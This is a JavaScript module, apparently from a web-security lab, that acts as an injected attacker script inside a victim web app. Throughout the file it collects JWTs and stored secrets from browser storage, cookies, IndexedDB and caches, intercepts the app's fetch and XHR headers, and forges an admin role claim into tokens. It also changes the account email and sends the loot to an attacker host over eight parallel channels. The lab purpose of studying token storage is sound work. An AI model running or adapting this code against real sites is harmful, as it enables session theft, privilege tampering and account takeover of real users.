// The attacker's script inside the app: it can do whatever the app's own script can.
import { leaving, run as id, travel } from "./tab.js";

const jwt = /eyJ[\w-]{8,}\.[\w-]{8,}(?:\.[\w-]+)?/g;

/** Runs beside the app. The client is the app's own. */
export function run(client) {
  sessionStorage.setItem("lab", id); // so that the tab finds home from any page of this origin
  const at = location.pathname.startsWith("/lab/open/") ? "open" : "victim"; // however it came here
  return travel(at, {
    "read-tokens/0": () => read(client),
    "send-policy/0": ({ to }) => send(client, to, "policy "),
    "send-policy/1": async ({ page }) => {
      location.href = `${page}&by=${encodeURIComponent("policy navigation")}&loot=${encodeURIComponent(packed(await read(client)))}`;
      return leaving;
    },
    "send-open/0": ({ to }) => send(client, to, "open "),
    "live-session/0": ({ email }) => write(client, email),
    "edit-role/0": () => editRole(client),
    "forge-cookie/0": nothing,
    "login-csrf/1": nothing,
    "toss-cookie/1": () => me(client),
    "stolen-profile/0": onDisk,
    "stolen-store/0": nothing,
    "shared-cache/0": onDisk,
    "replay-logout/0": onDisk,
    "replay-logout/1": () => leave(client),
    "leave/0": () => leave(client),
  });
}

/** What is done here is done elsewhere, with the cookies that come along. */
const nothing = async () => ({});

/** Stands in for a look at the profile's files: what the browser keeps of the storages. */
const onDisk = async () => ({ stored: [localStorage, sessionStorage].flatMap((storage) => kept(storage).split("\n")).filter((value) => value.length > 20) });

async function me(client) {
  const answer = await client.fetch("/api/me").catch(() => ({}));
  return answer.ok ? answer.json() : { status: answer.status };
}

/** Makes an administrator of the person in every copy of the claims that script can write, and asks what page and API make of it. */
async function editRole(client) {
  const edited = [];
  const restore = [];
  const other = (token) => {
    const parts = token.split(".");
    const claims = JSON.parse(atob(parts[1].replaceAll("-", "+").replaceAll("_", "/")));
    parts[1] = btoa(JSON.stringify({ ...claims, role: "admin" })).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
    return parts.join(".");
  };
  for (const storage of [localStorage, sessionStorage]) {
    for (const [key, value] of Object.entries(storage)) {
      if (!value.startsWith("eyJ")) continue;
      storage.setItem(key, other(value));
      restore.push(() => storage.setItem(key, value));
      edited.push(key);
    }
  }
  for (const pair of document.cookie.split("; ")) {
    const [name, value = ""] = pair.split("=");
    if (!value.startsWith("eyJ")) continue;
    const write = (text) => (document.cookie = `${name}=${text}; Path=/; Max-Age=60${name === "token" ? "" : "; SameSite=Strict"}${location.protocol === "https:" ? "; Secure" : ""}`);
    write(other(value));
    restore.push(() => write(value));
    edited.push(name);
  }
  try {
    const page = readable() ?? (await client.session().catch(() => ({}))).user?.role;
    const api = (await me(client)).role;
    return { edited: edited.join(", "), page: page ?? "", api: api ?? "" };
  } finally {
    for (const undo of restore) undo();
  }
}

/** The role as a page reads it that takes the claims from where script can read them. */
function readable() {
  const token = [kept(localStorage), kept(sessionStorage), document.cookie.replaceAll(/[=;]/g, "\n")].join("\n").match(/eyJ[\w-]+\.[\w-]+/)?.[0];
  return token && JSON.parse(atob(token.split(".")[1].replaceAll("-", "+").replaceAll("_", "/"))).role;
}

/** Not an attack: signs out, as the app does. */
async function leave(client) {
  if (client.end) return client.end();
  const { status } = await fetch("/auth/logout", { method: "POST", headers: { "X-CSRF-Token": await proof(client), Accept: "application/json" } });
  return { status };
}

async function write(client, email) {
  const answer = await client.fetch("/api/email", { method: "POST", body: new URLSearchParams({ email }) });
  return { status: answer.status };
}

/** Looks everywhere that script can look, and returns what it found: where and what. */
async function read(client) {
  const overheard = await listenIn(async () => {
    document.getElementById("reload").click(); // the app calls its API, as it does all day
    await new Promise((done) => setTimeout(done, 400));
  });
  const places = {
    localStorage: () => kept(localStorage),
    sessionStorage: () => kept(sessionStorage),
    "document.cookie": () => document.cookie,
    IndexedDB: databases,
    "Cache storage": cached,
    "the page and its globals": () => [document.documentElement.outerHTML, ...Object.keys(window).map((key) => text(window[key]))].join("\n"),
    "the app's own calls": () => overheard.join("\n"),
    "POST /auth/token": async () => asked("/auth/token", "POST", await proof(client)),
    "POST /auth/refresh": async () => asked("/auth/refresh", "POST", await proof(client)),
    "GET /auth/session": () => asked("/auth/session", "GET"),
    "GET /api/me": () => asked("/api/me", "GET"),
  };
  const loot = [];
  for (const [where, look] of Object.entries(places)) {
    const all = String(await Promise.resolve().then(look).catch(() => ""));
    const found = new Set(all.match(jwt) ?? []);
    if (where.endsWith("Storage")) for (const value of all.split("\n")) if (value.length > 20) found.add(value);
    for (const what of found) loot.push({ where, what: what.slice(0, 4000) });
  }
  return loot.slice(0, 40);
}

/** All of the loot in one text. */
const packed = (loot) => [...new Set(loot.map(({ what }) => what))].join("\n").slice(0, 6000) || "nothing";

/** Patches what the app sends with, and returns the headers and answers that went by while it acted. */
async function listenIn(act) {
  const heard = [];
  const original = window.fetch;
  const set = XMLHttpRequest.prototype.setRequestHeader;
  window.fetch = async (input, init) => {
    const request = new Request(input, init);
    heard.push([...request.headers].join("\n"));
    const response = await original(request);
    heard.push(await response.clone().text());
    return response;
  };
  XMLHttpRequest.prototype.setRequestHeader = function (name, value) {
    heard.push(value);
    return set.call(this, name, value);
  };
  try {
    await act();
  } finally {
    window.fetch = original;
    XMLHttpRequest.prototype.setRequestHeader = set;
  }
  return heard;
}

const kept = (storage) => Object.entries(storage).filter(([key]) => key !== "lab").map(([, value]) => value).join("\n");

async function databases() {
  const all = [];
  for (const { name } of await indexedDB.databases()) {
    const db = await new Promise((done, failed) => {
      const opening = indexedDB.open(name);
      opening.onsuccess = () => done(opening.result);
      opening.onerror = failed;
    });
    for (const store of db.objectStoreNames) {
      const values = db.transaction(store).objectStore(store).getAll();
      all.push(await new Promise((done) => (values.onsuccess = () => done(text(values.result)))));
    }
    db.close();
  }
  return all.join("\n");
}

async function cached() {
  if (!("caches" in window)) return "";
  const all = [];
  for (const name of await caches.keys()) {
    const cache = await caches.open(name);
    for (const request of await cache.keys()) all.push(await (await cache.match(request)).text());
  }
  return all.join("\n");
}

function text(value) {
  try {
    return typeof value === "string" ? value : JSON.stringify(value) ?? "";
  } catch {
    return "";
  }
}

async function asked(path, method, csrf = "1") {
  return (await fetch(path, { method, headers: { "X-CSRF-Token": csrf } })).text();
}

/** What the page's writes bring to prove that they were meant: script can have it, too. */
const proof = async (client) => (await client.session().catch(() => ({}))).csrf_token ?? "1";

/** Sends the loot to the attacker's host by every kind of connection that a page can make. */
async function send(client, to, prefix) {
  const loot = packed(await read(client));
  const address = (by) => `${to}&by=${encodeURIComponent(prefix + by)}&loot=${encodeURIComponent(loot)}`;
  const element = (name, attributes) =>
    new Promise((done) => {
      const made = Object.assign(document.createElement(name), { onload: done, onerror: done }, attributes);
      document.head.append(made);
    });
  const ways = [
    () => fetch(address("fetch"), { mode: "no-cors" }),
    () => navigator.sendBeacon(address("beacon")),
    () => element("img", { src: address("image") }),
    () => element("script", { src: address("script") }),
    () => element("link", { rel: "stylesheet", href: address("style") }),
    () => element("iframe", { src: address("frame") }),
    () => new Promise((done) => (new WebSocket(address("socket").replace(/^http/, "ws")).onerror = done)),
    () => new Promise((done) => (new EventSource(address("events")).onerror = done)),
  ];
  await Promise.allSettled(ways.map((way) => Promise.race([Promise.resolve().then(way), new Promise((done) => setTimeout(done, 1500))])));
  return { had: loot !== "nothing" };
}
